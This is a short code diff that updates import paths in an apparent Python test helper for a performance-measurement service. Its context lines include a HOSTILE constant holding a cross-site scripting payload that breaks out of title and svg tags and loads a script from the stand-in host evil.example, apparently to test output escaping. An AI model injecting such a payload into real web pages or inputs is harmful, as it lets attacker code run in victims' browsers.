@@ -6,9 +6,14 @@ import random
 from datetime import datetime, timezone
 from typing import Any
 
-from services.perf.loads import GeneratorName, Protocol
-from services.perf.measurements import Measurement, MissingShard, StageResult, TargetResult
-from services.perf.tallies import Tally
+from services.perf.definitions.loads import GeneratorName, Protocol
+from services.perf.measurements.measurements import (
+    Measurement,
+    MissingShard,
+    StageResult,
+    TargetResult,
+)
+from services.perf.measurements.tallies import Tally
 
 STARTED = datetime(2026, 9, 1, 12, 0, 0, 250_000, tzinfo=timezone.utc)
 HOSTILE = "</title></svg><script src=//evil.example/x.js>alert('1')</script>&amp;\"$\\frac{1}{2}$ ☃"
